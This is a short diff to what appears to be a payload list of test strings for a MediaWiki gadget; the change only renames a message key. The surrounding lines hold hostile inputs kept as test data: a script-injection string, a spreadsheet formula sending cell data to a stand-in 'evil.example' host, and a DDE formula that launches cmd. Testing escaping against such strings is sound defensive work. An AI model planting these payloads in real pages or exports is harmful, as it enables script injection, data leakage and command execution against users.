@@ -36,7 +36,7 @@ export const TEXT_PAYLOADS: Payload[] = [
 	{ name: 'emoji', value: '🏔️⛏️💧 conflict 👩🏽‍🌾🇨🇱' },
 	{ name: 'astral and CJK', value: '𝔘𝔫𝔦𝔠𝔬𝔡𝔢 環境紛争 環境' },
 	{ name: 'PLURAL message syntax', value: '{{PLURAL:$1|one|many}} $1 $2' },
-	{ name: 'GENDER and int', value: '{{GENDER:|he|she}} {{int:geo-retry}} [[Special:Random|link]]' },
+	{ name: 'GENDER and int', value: '{{GENDER:|he|she}} {{int:geo-gadgets-retry}} [[Special:Random|link]]' },
 	{ name: 'nowiki close', value: '</nowiki><script>__pwned(14)</script>' },
 	{ name: 'CSV formula', value: '=HYPERLINK("https://evil.example/?x="&A1,"Click")' },
 	{ name: 'CSV formula plus', value: '+cmd|\' /C calc\'!A0' },
